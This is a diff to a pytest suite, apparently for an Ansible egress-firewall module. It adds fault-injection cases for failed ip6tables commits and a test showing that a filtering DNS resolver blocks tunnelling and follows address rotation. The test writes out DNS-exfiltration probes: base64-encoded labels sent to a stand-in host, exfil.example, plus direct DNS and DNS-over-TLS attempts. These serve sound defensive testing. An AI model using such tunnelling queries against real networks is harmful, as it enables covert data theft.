@@ -2,6 +2,7 @@
 import os
 import stat
 import subprocess
+import time
 
 import pytest
 
@@ -125,28 +126,33 @@ def test_many_addresses_use_ipsets(lab, egress):
     assert "ag4-cdn" not in lab.run("ipset", "save").stdout
 
 
-def failing_ip6tables_restore(tmp_path):
-    """A PATH prefix whose ip6tables-restore validates for real but fails every commit."""
+def failing_ip6tables_restore(tmp_path, reads_input):
+    """A PATH prefix whose ip6tables-restore validates for real but fails every commit, either after
+    reading its input or at once (the module then meets a broken pipe)."""
     directory = tmp_path / "fault"
     directory.mkdir()
     real = sh("sh", "-c", "command -v ip6tables-restore").stdout.strip()
     script = directory / "ip6tables-restore"
-    script.write_text('#!/bin/sh\nfor a in "$@"; do [ "$a" = --test ] && exec %s "$@"; done\n'
-                      'echo "ip6tables-restore: injected commit failure" >&2\nexit 4\n' % real)
+    script.write_text('#!/bin/sh\nfor a in "$@"; do [ "$a" = --test ] && exec %s "$@"; done\n%s'
+                      'echo "ip6tables-restore: injected commit failure" >&2\nexit 4\n'
+                      % (real, "cat >/dev/null\n" if reads_input else ""))
     script.chmod(script.stat().st_mode | stat.S_IEXEC)
     return str(directory)
 
 
+@pytest.mark.parametrize("reads_input", [True, False], ids=["fails-after-input", "dies-before-input"])
 @pytest.mark.parametrize("start", ["fresh", "hardened"])
-def test_failure_mid_apply_leaves_host_identical(lab, egress, tmp_path, start):
+def test_failure_mid_apply_leaves_host_identical(lab, egress, tmp_path, start, reads_input):
     add_foreign_rules(lab)
     if start == "hardened":
         egress(POLICY)
     before = snapshot(lab)
     # The new policy needs sets and changes both families; IPv6 fails after IPv4 committed.
     policy = dict(POLICY, allow=POLICY["allow"] + [dict(name="cdn", host="cdn.test", ports=[8443])], deny_action="reject")
-    result = ModuleRunner(lab, failing_ip6tables_restore(tmp_path))(policy, expect_failure=True)
-    assert "injected commit failure" in result["msg"] and "previous rules were restored" in result["msg"]
+    result = ModuleRunner(lab, failing_ip6tables_restore(tmp_path, reads_input))(policy, expect_failure=True)
+    assert "ip6tables-restore" in result["msg"] and "previous rules were restored" in result["msg"], result
+    if reads_input:
+        assert "injected commit failure" in result["msg"]
     assert snapshot(lab) == before
 
 
@@ -224,3 +230,46 @@ def test_denials_are_logged_with_uid_and_rate_limited(lab, egress, kernel_log):
     assert mine[0]["dst"] == V4["forbidden"] and mine[0]["uid"] == 65534 and mine[0]["protocol"] == "tcp"
     assert mine[0]["sources"] == [V4["host"]] and mine[0]["first"] <= mine[0]["last"]
     assert report["changed"] is False and report["source"] == "dmesg"
+
+
+FILTERING = dict(POLICY, dns_mode="filtering", dns_resolver_user="nobody", resolvers=["127.0.0.1"], dns_set_timeout=10)
+
+
+def test_filtering_resolver_follows_dns_and_closes_tunnels(lab, egress, kernel_log):
+    lab.start_filtering_resolver([("inference-api", "api.test")], set_timeout=10)
+    first = egress(FILTERING)
+    assert first["changed"] is True and first["resolved"]["inference-api"]["ipv4"] == [V4["allowed"]]
+    # The resolver keeps learning; that is not drift.
+    lab.probe(["udp-dns:127.0.0.1:api.test"])
+    assert egress(FILTERING)["changed"] is False
+    assert egress(FILTERING, check=True)["changed"] is False
+
+    agent = 4242
+    assert lab.probe(["udp-dns:127.0.0.1:api.test"] + ALLOWED, uid=agent) == dict.fromkeys(["udp-dns:127.0.0.1:api.test"] + ALLOWED, "ok")
+
+    # Tunnelling: a non-allowlisted zone gets NXDOMAIN from the local resolver and never reaches upstream,
+    # and the upstream is unreachable directly over UDP and TCP, and by DNS-over-TLS.
+    before = len(lab.upstream_queries())
+    tunnel = ["udp-dns:127.0.0.1:c2VjcmV0LWRhdGE.exfil.example", "tcp-dns:127.0.0.1:bW9yZS1kYXRh.exfil.example",
+              "udp-dns:127.0.0.1:x1.api.test.exfil.example", "udp-dns:127.0.0.1:deep.api.test"]
+    direct = ["udp-dns:%s:q1.exfil.example" % V4["dns"], "tcp-dns:%s:q2.exfil.example" % V4["dns"],
+              "udp-dns:[%s]:q3.exfil.example" % V6["dns"], "tcp:%s:853" % V4["dns"]]
+    results = lab.probe(tunnel + direct, uid=agent)
+    assert {t: results[t] for t in tunnel} == dict.fromkeys(tunnel, "NXDOMAIN")
+    assert {t: results[t] in ("timeout", "denied") for t in direct} == dict.fromkeys(direct, True), results
+    assert not [q for q in lab.upstream_queries()[before:] if "exfil.example" in q or "deep.api.test" in q]
+    denied_dns = [l for l in kernel_log().splitlines()
+                  if "DST=%s " % V4["dns"] in l and "DPT=53 " in l and "UID=%d " % agent in l and "[EGRESS-DENIED] " in l]
+    assert denied_dns, "direct DNS to the upstream must be logged"
+
+    # Rotation: the API moves; without re-running Ansible the next lookup opens the new address...
+    new = CDN4[5]
+    lab.move_name("api.test", [new])
+    assert lab.probe(["tcp:%s:443" % new], uid=agent) == {"tcp:%s:443" % new: "timeout"}
+    assert lab.probe(["udp-dns:127.0.0.1:api.test"], uid=agent) == {"udp-dns:127.0.0.1:api.test": "ok"}
+    assert lab.probe(["tcp:%s:443" % new], uid=agent) == {"tcp:%s:443" % new: "ok"}
+    # ...and the old one closes once its timeout (10 s) has passed without an answer naming it.
+    deadline = time.monotonic() + 25
+    while lab.probe([ALLOWED[0]], uid=agent, timeout=0.5)[ALLOWED[0]] == "ok":
+        assert time.monotonic() < deadline, "the old address is still open after its timeout"
+        time.sleep(1)
